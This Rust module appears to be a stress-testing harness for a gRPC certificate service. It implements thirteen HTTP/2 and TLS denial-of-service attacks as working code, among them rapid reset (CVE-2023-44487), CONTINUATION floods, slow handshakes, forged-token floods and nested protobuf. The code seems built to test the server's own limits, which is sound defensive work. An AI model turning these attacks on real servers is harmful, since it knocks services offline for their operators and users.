//! The attacks, one function each (see the module documentation of
//! `abuse` for what each does and why). Every attack runs until the
//! context's deadline, when its future is dropped: the tasks it spawned
//! live in `JoinSet`s owned by that future, so dropping it closes the
//! sockets the attack holds (and the attacker's runtime is shut down right
//! after, which drops anything left). What happened is counted in
//! `ctx.stats`.

use std::future::Future;
use std::pin::Pin;
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use h2::client::SendRequest;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

use super::wire::{self, Dialer, RawConn, Rng, Stats};
use super::Attack;

/// Everything an attack needs.
pub struct Ctx {
    pub dialer: Dialer,
    /// (token, CSR PEM) pairs from the request pool: valid credentials, as
    /// a compromised or misbehaving workload has.
    pub pool: Vec<(String, String)>,
    pub deadline: Instant,
    pub stats: Arc<Stats>,
    /// Connections the attack keeps (its "many").
    pub connections: usize,
    /// Streams per connection, where the attack uses streams.
    pub streams: usize,
    /// The server's `limits.max_request_bytes` (its default), to size the
    /// oversized and nested requests against.
    pub max_request_bytes: usize,
}

impl Ctx {
    fn entry(&self, i: usize) -> (&str, &str) {
        let (t, c) = &self.pool[i % self.pool.len()];
        (t.as_str(), c.as_str())
    }

    /// A valid request body (gRPC frame) for pool entry `i`.
    fn valid_body(&self, i: usize) -> Bytes {
        wire::grpc_frame(&wire::certificate_request(self.entry(i).1, 3600, &[]))
    }
}

/// How long an idle-style attacker waits before replacing a connection the
/// server closed (jittered), so the attack holds connections rather than
/// turning into a connect-rate flood.
const RECONNECT: (Duration, Duration) = (Duration::from_millis(500), Duration::from_millis(1500));

/// Runs `attack` until the deadline.
pub async fn run(attack: Attack, ctx: Arc<Ctx>) {
    let deadline = ctx.deadline;
    let work = async move {
        match attack {
            Attack::IdleTcp => idle_tcp(ctx).await,
            Attack::IdleH2 => idle_h2(ctx).await,
            Attack::SlowHandshake => slow_handshake(ctx).await,
            Attack::NoTokenFlood => token_flood(ctx, false).await,
            Attack::ForgedTokenFlood => token_flood(ctx, true).await,
            Attack::RapidReset => rapid_reset(ctx).await,
            Attack::LateReset => late_reset(ctx).await,
            Attack::ContinuationFlood => continuation_flood(ctx).await,
            Attack::HeldStreams => held_streams(ctx, false).await,
            Attack::HeldPartialBodies => held_streams(ctx, true).await,
            Attack::OversizedBody => oversized_body(ctx).await,
            Attack::HugeHeaders => huge_headers(ctx).await,
            Attack::NestedProtobuf => nested_protobuf(ctx).await,
        }
    };
    tokio::select! {
        _ = work => {}
        _ = tokio::time::sleep_until(deadline.into()) => {}
    }
}

/// Counts a connection the server closed, by how long it was held.
fn count_close(stats: &Stats, held: Duration) {
    stats.inc(if held < Duration::from_secs(1) {
        "closed by the server within 1 s"
    } else {
        "closed by the server after 1 s or more"
    });
    stats.max("longest hold (ms)", held.as_millis() as u64);
}

/// Runs `slot(ctx, c)` for each connection slot `c` in 0..`ctx.connections`,
/// each in a task of its own, until the deadline (the tasks live in a
/// `JoinSet` owned by this future, so they end with it).
async fn per_connection<F, Fut>(ctx: Arc<Ctx>, slot: F)
where
    F: Fn(Arc<Ctx>, usize) -> Fut,
    Fut: Future<Output = ()> + Send + 'static,
{
    let mut set = JoinSet::new();
    for c in 0..ctx.connections {
        set.spawn(slot(ctx.clone(), c));
    }
    tokio::time::sleep_until(ctx.deadline.into()).await;
}

/// What [`hold_and_reconnect`] runs on an open connection (boxed: it borrows
/// the slot's random generator).
type Holding<'r> = Pin<Box<dyn Future<Output = ()> + Send + 'r>>;

/// One connection slot of an idle-style attack, for ever: `connect`s
/// (counting the connection under `opened`, or the failure), lets `hold`
/// keep it until the server closes it (gauged as open meanwhile, and the
/// close counted by how long it was held), then waits [`RECONNECT`]
/// (jittered, from a generator seeded with `seed`) before the next.
async fn hold_and_reconnect<C, Connect, Fut, Hold>(
    ctx: &Ctx,
    seed: usize,
    opened: &str,
    mut connect: Connect,
    mut hold: Hold,
) where
    Connect: FnMut() -> Fut,
    Fut: Future<Output = Result<C, String>>,
    Hold: for<'r> FnMut(C, &'r mut Rng) -> Holding<'r>,
{
    let mut rng = Rng::new(seed as u64);
    loop {
        match connect().await {
            Ok(conn) => {
                ctx.stats.inc(opened);
                ctx.stats.gauge("connections open", 1);
                let since = Instant::now();
                hold(conn, &mut rng).await;
                ctx.stats.gauge("connections open", -1);
                count_close(&ctx.stats, since.elapsed());
            }
            Err(e) => ctx.stats.inc(&format!("connect failed: {e}")),
        }
        tokio::time::sleep(rng.between(RECONNECT.0, RECONNECT.1)).await;
    }
}

/// Connects with `connect` until it succeeds (each failure counted, then
/// retried after 100 ms), and counts the connection established.
async fn connect_retrying<C, Fut>(stats: &Stats, mut connect: impl FnMut() -> Fut) -> C
where
    Fut: Future<Output = Result<C, String>>,
{
    loop {
        match connect().await {
            Ok(conn) => {
                stats.inc("connections established");
                return conn;
            }
            Err(e) => {
                stats.inc(&format!("connect failed: {e}"));
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        }
    }
}

/// A TCP connection, its error named for counting.
async fn tcp(ctx: &Ctx) -> Result<tokio::net::TcpStream, String> {
    ctx.dialer.tcp().await.map_err(|e| wire::io_kind(&e))
}

/// A [`RawConn`], retried until one opens (see [`connect_retrying`]).
async fn raw_conn(ctx: &Ctx) -> RawConn {
    connect_retrying(&ctx.stats, || RawConn::open(&ctx.dialer, ctx.stats.clone())).await
}

/// Attack 1, idle TCP: `connections` TCP connections that never send a byte.
async fn idle_tcp(ctx: Arc<Ctx>) {
    per_connection(ctx, |ctx, i| async move {
        hold_and_reconnect(
            &ctx,
            i,
            "connections opened",
            || tcp(&ctx),
            |mut tcp, _| {
                Box::pin(async move {
                    let mut buf = [0u8; 256];
                    while let Ok(n) = tcp.read(&mut buf).await {
                        if n == 0 {
                            break;
                        }
                    }
                })
            },
        )
        .await;
    })
    .await;
}

/// Attack 2, idle TLS + HTTP/2: complete both handshakes, then send nothing; the
/// h2 client answers the server's PINGs and SETTINGS, as a healthy idle
/// client does.
async fn idle_h2(ctx: Arc<Ctx>) {
    // The attacker's own handshakes in flight: below the server's
    // max_concurrent_handshakes, so the connections are established rather
    // than refused.
    let handshaking = Arc::new(tokio::sync::Semaphore::new(256));
    per_connection(ctx, move |ctx, i| {
        let handshaking = handshaking.clone();
        async move {
            let h2 = || async {
                let _permit = handshaking.acquire().await;
                ctx.dialer.h2().await
            };
            let opened = "connections established";
            hold_and_reconnect(&ctx, i, opened, h2, |(send, connection), _| {
                let stats = ctx.stats.clone();
                Box::pin(async move {
                    let end = connection.await;
                    drop(send);
                    stats.inc(&match end {
                        Ok(()) => "connection ended cleanly".to_owned(),
                        Err(e) => format!("connection ended: {}", wire::h2_error(&e)),
                    });
                })
            })
            .await;
        }
    })
    .await;
}

/// The bytes of a real ClientHello from the attacker's TLS configuration.
fn client_hello(dialer: &Dialer) -> Result<Vec<u8>, String> {
    let mut conn = rustls::ClientConnection::new(dialer.tls.clone(), dialer.server_name.clone())
        .map_err(|e| e.to_string())?;
    let mut out = Vec::new();
    while conn.wants_write() {
        conn.write_tls(&mut out).map_err(|e| e.to_string())?;
    }
    Ok(out)
}

/// Attack 3, slow handshakes: the first 16 bytes of a real ClientHello, then one
/// more byte every 0.5-1.5 s, on `connections` connections.
async fn slow_handshake(ctx: Arc<Ctx>) {
    let hello = match client_hello(&ctx.dialer) {
        Ok(h) => Arc::new(h),
        Err(e) => {
            ctx.stats.inc(&format!("no ClientHello: {e}"));
            return;
        }
    };
    ctx.stats.max("ClientHello bytes", hello.len() as u64);
    per_connection(ctx, move |ctx, i| {
        let hello = hello.clone();
        async move {
            hold_and_reconnect(
                &ctx,
                i,
                "connections opened",
                || tcp(&ctx),
                |tcp, rng| {
                    let (stats, hello) = (ctx.stats.clone(), hello.clone());
                    Box::pin(async move {
                        let sent = trickle(tcp, &hello, rng).await;
                        stats.add("ClientHello bytes trickled", sent as u64);
                        if sent == hello.len() {
                            stats.inc("whole ClientHello sent before the server closed");
                        }
                    })
                },
            )
            .await;
        }
    })
    .await;
}

/// Trickles `hello` until the server closes the connection; returns the
/// bytes sent.
async fn trickle(tcp: tokio::net::TcpStream, hello: &[u8], rng: &mut Rng) -> usize {
    let (mut r, mut w) = tcp.into_split();
    let mut sent = hello.len().min(16);
    if w.write_all(&hello[..sent]).await.is_err() {
        return 0;
    }
    let mut buf = [0u8; 512];
    loop {
        let pause = rng.between(Duration::from_millis(500), Duration::from_millis(1500));
        tokio::select! {
            n = r.read(&mut buf) => match n {
                Ok(0) | Err(_) => return sent,
                Ok(_) => {} // an alert; wait for the close
            },
            _ = tokio::time::sleep(pause) => {
                if sent < hello.len() {
                    if w.write_all(&hello[sent..sent + 1]).await.is_err() {
                        return sent;
                    }
                    sent += 1;
                }
            }
        }
    }
}

/// Reads the server's stream limit once its SETTINGS have arrived (h2
/// reports "unlimited" until then; a server that sets no limit costs a
/// 500 ms wait).
async fn server_stream_limit(send: &SendRequest<Bytes>) -> usize {
    let start = Instant::now();
    loop {
        let limit = send.current_max_send_streams();
        if limit != usize::MAX || start.elapsed() > Duration::from_millis(500) {
            return limit;
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
}

/// Keeps `ctx.connections` h2 connections, each with
/// min(`ctx.streams`, the server's stream limit) workers, reconnecting
/// when the server closes one. `worker(ctx, send, index)` runs a worker.
async fn h2_sessions<F, Fut>(ctx: Arc<Ctx>, worker: F)
where
    F: Fn(Arc<Ctx>, SendRequest<Bytes>, usize) -> Fut + Clone + Send + Sync + 'static,
    Fut: Future<Output = ()> + Send + 'static,
{
    per_connection(ctx, move |ctx, c| {
        let worker = worker.clone();
        async move {
            loop {
                let (send, connection) = connect_retrying(&ctx.stats, || ctx.dialer.h2()).await;
                let since = Instant::now();
                // Owned here, so it is dropped (and the connection closed)
                // with this task.
                let mut driver = JoinSet::new();
                driver.spawn(connection);
                let limit = server_stream_limit(&send).await;
                ctx.stats
                    .max("server's max concurrent streams", limit as u64);
                let mut workers = JoinSet::new();
                for w in 0..ctx.streams.min(limit.max(1)) {
                    workers.spawn(worker(ctx.clone(), send.clone(), c * ctx.streams + w));
                }
                drop(send);
                let end = match driver.join_next().await {
                    Some(Ok(Ok(()))) => "closed cleanly".to_owned(),
                    Some(Ok(Err(e))) => wire::h2_error(&e),
                    Some(Err(e)) => e.to_string(),
                    None => "no driver".to_owned(),
                };
                ctx.stats.inc(&format!("connection ended: {end}"));
                ctx.stats.max(
                    "longest connection (ms)",
                    since.elapsed().as_millis() as u64,
                );
                drop(workers);
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        }
    })
    .await;
}

/// Opens a stream for a gRPC call with `token` (None: no authorization),
/// sending `body` (small; all of it, ending the stream) when given.
async fn open_stream(
    ctx: &Ctx,
    send: SendRequest<Bytes>,
    token: Option<&str>,
    body: Option<Bytes>,
) -> Result<
    (
        SendRequest<Bytes>,
        h2::client::ResponseFuture,
        h2::SendStream<Bytes>,
    ),
    String,
> {
    let mut send = send.ready().await.map_err(|e| wire::h2_error(&e))?;
    let (resp, mut stream) = send
        .send_request(ctx.dialer.grpc_request(token), false)
        .map_err(|e| wire::h2_error(&e))?;
    if let Some(b) = body {
        stream.send_data(b, true).map_err(|e| wire::h2_error(&e))?;
    }
    Ok((send, resp, stream))
}

/// A pool token with one character of its signature changed: well-formed,
/// from the trusted issuer and key, so the server has to verify the
/// signature to refuse it.
fn forge(token: &str) -> String {
    let mut bytes = token.as_bytes().to_vec();
    if let Some(dot) = token.rfind('.') {
        let i = dot + 1 + (token.len() - dot - 1) / 2;
        if let Some(b) = bytes.get_mut(i) {
            *b = if *b == b'A' { b'B' } else { b'A' };
        }
    }
    String::from_utf8(bytes).unwrap_or_else(|_| token.to_owned())
}

/// Attack 4, token-less flood (`forged` false): CreateCertificate with a valid CSR
/// and no authorization, as fast as the answers come, `streams` at a time
/// on each of `connections` connections. Each should be refused
/// UNAUTHENTICATED. With `forged`, every request carries a pool token with
/// a broken signature instead (a signature check per request).
async fn token_flood(ctx: Arc<Ctx>, forged: bool) {
    let forged_tokens: Arc<Vec<String>> = Arc::new(if forged {
        ctx.pool.iter().map(|(t, _)| forge(t)).collect()
    } else {
        Vec::new()
    });
    h2_sessions(ctx, move |ctx, mut send, w| {
        let forged_tokens = forged_tokens.clone();
        async move {
            let mut i = w;
            loop {
                let token = forged_tokens.get(i % forged_tokens.len().max(1));
                let opened = open_stream(
                    &ctx,
                    send,
                    token.map(|t| t.as_str()),
                    Some(ctx.valid_body(i)),
                )
                .await;
                let resp;
                (send, resp, _) = match opened {
                    Ok(x) => x,
                    Err(e) => return ctx.stats.inc(&format!("could not send: {e}")),
                };
                ctx.stats.inc("requests sent");
                let outcome = wire::grpc_outcome(resp).await;
                ctx.stats.inc(&format!("answered {outcome}"));
                i += 7919;
            }
        }
    })
    .await;
}

/// Attack 5, classic rapid reset (CVE-2023-44487): on one connection, HEADERS for
/// a new stream (no token: anyone can do this) immediately followed by
/// RST_STREAM(CANCEL), 100 pairs per write, as fast as the connection
/// takes them; a new connection when the server closes one.
async fn rapid_reset(ctx: Arc<Ctx>) {
    const BATCH: u32 = 100;
    let block = wire::request_block(&ctx.dialer.authority, None);
    per_connection(ctx, move |ctx, _| {
        let block = block.clone();
        async move {
            let mut batch = Vec::with_capacity(BATCH as usize * (block.len() + 32));
            loop {
                let conn = raw_conn(&ctx).await;
                let since = Instant::now();
                let (mut id, mut on_this) = (1u32, 0u64);
                while !conn.is_closed() && id < (1 << 31) - 2 * BATCH {
                    batch.clear();
                    for _ in 0..BATCH {
                        wire::frame(&mut batch, wire::HEADERS, wire::END_HEADERS, id, &block);
                        wire::frame(
                            &mut batch,
                            wire::RST_STREAM,
                            0,
                            id,
                            &wire::CANCEL.to_be_bytes(),
                        );
                        id += 2;
                    }
                    if conn.write(&batch).await.is_err() {
                        break;
                    }
                    on_this += u64::from(BATCH);
                    ctx.stats
                        .add("HEADERS+RST_STREAM pairs written", u64::from(BATCH));
                    tokio::task::yield_now().await;
                }
                ctx.stats.max("most streams on one connection", on_this);
                ctx.stats.max(
                    "longest connection (ms)",
                    since.elapsed().as_millis() as u64,
                );
            }
        }
    })
    .await;
}

/// Attack 6, late reset: valid requests (pool token and CSR), each reset
/// (RST_STREAM CANCEL) 50-100 ms after it was sent unless answered by
/// then; every stream slot of each connection cycles like that, so each
/// connection offers ~min(streams, limit)/75ms requests per second.
async fn late_reset(ctx: Arc<Ctx>) {
    h2_sessions(ctx, |ctx, mut send, w| async move {
        let mut rng = Rng::new(w as u64);
        let mut i = w;
        loop {
            let cycle = rng.between(Duration::from_millis(50), Duration::from_millis(100));
            let started = Instant::now();
            let token = ctx.entry(i).0.to_owned();
            let opened = open_stream(&ctx, send, Some(&token), Some(ctx.valid_body(i))).await;
            let (resp, mut stream);
            (send, resp, stream) = match opened {
                Ok(x) => x,
                Err(e) => return ctx.stats.inc(&format!("could not send: {e}")),
            };
            ctx.stats.inc("requests sent");
            match tokio::time::timeout(cycle, wire::grpc_outcome(resp)).await {
                Ok(outcome) => ctx.stats.inc(&format!("ended before the reset: {outcome}")),
                Err(_) => {
                    stream.send_reset(h2::Reason::CANCEL);
                    ctx.stats.inc("reset 50-100 ms after sending, unanswered");
                }
            }
            tokio::time::sleep_until((started + cycle).into()).await;
            i += 7919;
        }
    })
    .await;
}

/// Attack 7, CONTINUATION flood: HEADERS without END_HEADERS (a valid token), then
/// 16 KiB CONTINUATION frames of header fields, never ending the block, on
/// `connections` connections; a new connection when the server closes one.
async fn continuation_flood(ctx: Arc<Ctx>) {
    // One CONTINUATION payload: literal header fields, cut at 16 KiB (a
    // block may be split anywhere).
    let mut fields = Vec::with_capacity(wire::MAX_FRAME + 256);
    let mut n = 0;
    while fields.len() < wire::MAX_FRAME {
        wire::hpack_literal(&mut fields, &format!("x-flood-{n:05}"), &[b'v'; 100]);
        n += 1;
    }
    fields.truncate(wire::MAX_FRAME);
    per_connection(ctx, move |ctx, c| {
        let fields = fields.clone();
        async move {
            let mut burst = Vec::with_capacity(8 * (wire::MAX_FRAME + 9));
            for _ in 0..8 {
                wire::frame(&mut burst, wire::CONTINUATION, 0, 1, &fields);
            }
            loop {
                let conn = raw_conn(&ctx).await;
                let since = Instant::now();
                let mut head = Vec::new();
                let block = wire::request_block(&ctx.dialer.authority, Some(ctx.entry(c).0));
                wire::frame(&mut head, wire::HEADERS, 0, 1, &block);
                let mut frames = 0u64;
                if conn.write(&head).await.is_ok() {
                    while conn.write(&burst).await.is_ok() {
                        frames += 8;
                        ctx.stats.add("CONTINUATION frames written", 8);
                        tokio::task::yield_now().await;
                    }
                }
                ctx.stats
                    .max("most CONTINUATION frames on one connection", frames);
                ctx.stats.max(
                    "longest connection (ms)",
                    since.elapsed().as_millis() as u64,
                );
            }
        }
    })
    .await;
}

/// Attack 8, held streams: HEADERS of a valid call (token, gRPC content type) with
/// no END_STREAM and no DATA, as many as the server allows per connection,
/// each held until the server ends it (then replaced), on `connections`
/// connections. With `partial`, each stream also sends most of a message
/// just under the size limit (a 5-byte prefix announcing max - 16 bytes,
/// then 1 KiB less than that), so the server holds ~64 KiB per stream.
async fn held_streams(ctx: Arc<Ctx>, partial: bool) {
    let announced = ctx.max_request_bytes.saturating_sub(16);
    let prefix_and_most = {
        let mut b = Vec::with_capacity(announced + 5);
        b.push(0);
        b.extend_from_slice(&(announced as u32).to_be_bytes());
        b.resize(5 + announced.saturating_sub(1024), 0x0a);
        Bytes::from(b)
    };
    h2_sessions(ctx, move |ctx, mut send, w| {
        let body = prefix_and_most.clone();
        async move {
            let mut i = w;
            loop {
                let token = ctx.entry(i).0.to_owned();
                let (resp, mut stream);
                (send, resp, stream) = match open_stream(&ctx, send, Some(&token), None).await {
                    Ok(x) => x,
                    Err(e) => return ctx.stats.inc(&format!("could not open: {e}")),
                };
                ctx.stats.inc("streams opened");
                ctx.stats.gauge("streams held", 1);
                let since = Instant::now();
                let outcome = if partial {
                    tokio::pin!(resp);
                    tokio::select! {
                        sent = wire::send_body(&mut stream, body.clone(), false) => {
                            match sent {
                                Ok(n) => ctx.stats.add("partial-body bytes sent", n as u64),
                                Err(e) => ctx.stats.inc(&format!("partial body cut short: {e}")),
                            }
                            wire::grpc_outcome(resp).await
                        }
                        outcome = wire::grpc_outcome(&mut resp) => outcome,
                    }
                } else {
                    wire::grpc_outcome(resp).await
                };
                ctx.stats.gauge("streams held", -1);
                ctx.stats.inc(&format!("held stream ended: {outcome}"));
                ctx.stats
                    .max("longest hold (ms)", since.elapsed().as_millis() as u64);
                drop(stream);
                i += 7919;
            }
        }
    })
    .await;
}

/// Attack 9a, oversized requests: a valid token and a 1 MiB gRPC message (16 × the
/// default limit), sent within flow control, `streams` at a time per
/// connection, as fast as the answers come.
async fn oversized_body(ctx: Arc<Ctx>) {
    let body = wire::grpc_frame(&vec![0x0a; 1 << 20]);
    h2_sessions(ctx, move |ctx, mut send, w| {
        let body = body.clone();
        async move {
            let mut i = w;
            loop {
                let token = ctx.entry(i).0.to_owned();
                let (resp, mut stream);
                (send, resp, stream) = match open_stream(&ctx, send, Some(&token), None).await {
                    Ok(x) => x,
                    Err(e) => return ctx.stats.inc(&format!("could not send: {e}")),
                };
                ctx.stats.inc("requests sent");
                tokio::pin!(resp);
                let outcome = tokio::select! {
                    sent = wire::send_body(&mut stream, body.clone(), true) => {
                        if let Ok(n) = sent {
                            ctx.stats.add("body bytes sent", n as u64);
                        }
                        wire::grpc_outcome(resp).await
                    }
                    outcome = wire::grpc_outcome(&mut resp) => {
                        ctx.stats.inc("answered before the whole body was sent");
                        outcome
                    }
                };
                ctx.stats.inc(&format!("answered {outcome}"));
                i += 7919;
            }
        }
    })
    .await;
}

/// Attack 9b, huge header lists, written by hand (h2 refuses to send a header list
/// over the server's SETTINGS_MAX_HEADER_LIST_SIZE): a valid call whose
/// header block also carries, alternately, 4,096 small fields (~190 KiB) or
/// one 256 KiB field, as HEADERS + CONTINUATION frames, then the message
/// (END_STREAM); streams back to back on `connections` connections, without
/// waiting for answers.
async fn huge_headers(ctx: Arc<Ctx>) {
    per_connection(ctx, |ctx, c| async move {
        let base = wire::request_block(&ctx.dialer.authority, Some(ctx.entry(c).0));
        let mut many = base.clone();
        for n in 0..4096 {
            wire::hpack_literal(&mut many, &format!("x-extra-{n:04}"), &[b'v'; 32]);
        }
        let mut giant = base;
        wire::hpack_literal(&mut giant, "x-giant", &vec![b'g'; 256 << 10]);
        let data = ctx.valid_body(c);
        let mut out = Vec::with_capacity(giant.len() + 4096);
        loop {
            let conn = raw_conn(&ctx).await;
            let mut id = 1u32;
            while !conn.is_closed() && id < (1 << 31) - 2 {
                let block = if id % 4 == 1 { &many } else { &giant };
                out.clear();
                let mut chunks = block.chunks(wire::MAX_FRAME).peekable();
                let mut first = true;
                while let Some(chunk) = chunks.next() {
                    let last = chunks.peek().is_none();
                    let ty = if first {
                        wire::HEADERS
                    } else {
                        wire::CONTINUATION
                    };
                    let flags = if last { wire::END_HEADERS } else { 0 };
                    wire::frame(&mut out, ty, flags, id, chunk);
                    first = false;
                }
                wire::frame(&mut out, wire::DATA, wire::END_STREAM, id, &data);
                if conn.write(&out).await.is_err() {
                    break;
                }
                ctx.stats.inc("requests sent");
                ctx.stats.add("header bytes sent", block.len() as u64);
                id += 2;
                tokio::task::yield_now().await;
            }
        }
    })
    .await;
}

/// Attack 9c, deeply nested protobuf: a valid token and CSR, and `metadata` (a
/// google.protobuf.Struct) nested as deep as fits in the size limit
/// (thousands of levels), hand-encoded; `streams` at a time per connection,
/// as fast as the answers come.
async fn nested_protobuf(ctx: Arc<Ctx>) {
    let (depth, msg) = wire::deepest_request_within(ctx.entry(0).1, ctx.max_request_bytes);
    ctx.stats.max("nesting depth", depth as u64);
    ctx.stats.max("message bytes", msg.len() as u64);
    let body = wire::grpc_frame(&msg);
    h2_sessions(ctx, move |ctx, mut send, w| {
        let body = body.clone();
        async move {
            let mut i = w;
            loop {
                let token = ctx.entry(i).0.to_owned();
                let resp;
                (send, resp, _) =
                    match open_stream(&ctx, send, Some(&token), Some(body.clone())).await {
                        Ok(x) => x,
                        Err(e) => return ctx.stats.inc(&format!("could not send: {e}")),
                    };
                ctx.stats.inc("requests sent");
                let outcome = wire::grpc_outcome(resp).await;
                ctx.stats.inc(&format!("answered {outcome}"));
                i += 7919;
            }
        }
    })
    .await;
}
